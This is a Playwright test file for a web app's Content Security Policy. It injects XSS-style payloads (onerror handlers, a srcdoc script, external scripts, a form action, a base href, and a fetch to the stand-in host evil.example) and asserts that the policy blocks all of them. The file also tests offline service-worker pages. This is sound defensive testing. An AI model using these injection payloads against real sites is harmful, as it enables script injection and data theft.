import { expect, expectSaved, test } from './app.ts';

test('what somebody smuggles into a page does not run, and leads nowhere else', async ({
	app,
	browser
}) => {
	// A browser of its own: here the policy has something to complain of.
	const context = await browser.newContext({ baseURL: app.url });
	const page = await context.newPage();
	const asked: string[] = [];
	await context.route(/evil\.example/, (route) => {
		asked.push(route.request().url());
		return route.fulfill({ body: 'globalThis.ran = true' });
	});
	await page.goto('/');
	const after = await page.evaluate(async () => {
		const directives: string[] = [];
		document.addEventListener('securitypolicyviolation', (event) =>
			directives.push(event.effectiveDirective)
		);
		document.body.insertAdjacentHTML(
			'beforeend',
			`<img src="x:y" onerror="globalThis.ran = true">
			 <iframe srcdoc="<script>parent.ran = true</script>"></iframe>
			 <style>body { display: none }</style>
			 <object data="https://evil.example/o"></object>
			 <base href="https://evil.example/">
			 <form id="smuggled" action="https://evil.example/f"><input name="a"></form>`
		);
		const inline = document.createElement('script');
		inline.textContent = 'globalThis.ran = true';
		document.body.append(inline);
		const foreign = document.createElement('script');
		foreign.src = 'https://evil.example/s.js';
		document.body.append(foreign);
		await fetch('https://evil.example/').catch(() => undefined);
		document.querySelector<HTMLFormElement>('#smuggled')?.submit();
		await new Promise((resolve) => setTimeout(resolve, 500));
		return {
			directives,
			ran: 'ran' in globalThis,
			display: getComputedStyle(document.body).display
		};
	});
	expect(after).toMatchObject({ ran: false, display: 'block' });
	expect(new Set(after.directives)).toEqual(
		new Set([
			'img-src',
			'script-src-attr',
			'script-src-elem',
			'style-src-elem',
			'object-src',
			'base-uri',
			'form-action',
			'connect-src'
		])
	);
	expect(asked).toEqual([]);
	await context.close();
});

test('a page that this device kept comes back under the policy that it had', async ({ people }) => {
	const { page } = await people.facilitator('Amara', 'blank');
	await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
	await page.reload();
	await expectSaved(page);
	await page.context().setOffline(true);
	const answer = await page.reload();
	expect(answer?.fromServiceWorker()).toBe(true);
	const policy = (await answer?.allHeaders())?.['content-security-policy'] ?? '';
	expect(policy).toContain("default-src 'none'");
	await expect(page.getByTestId('save-state')).toHaveText(/^Offline/);

	await page.goto('/rooms/AAAAAAAAAAAAAAAAAAAAAA');
	await expect(page.getByRole('heading', { name: 'No connection' })).toHaveCSS(
		'font-family',
		/system-ui/
	);
});
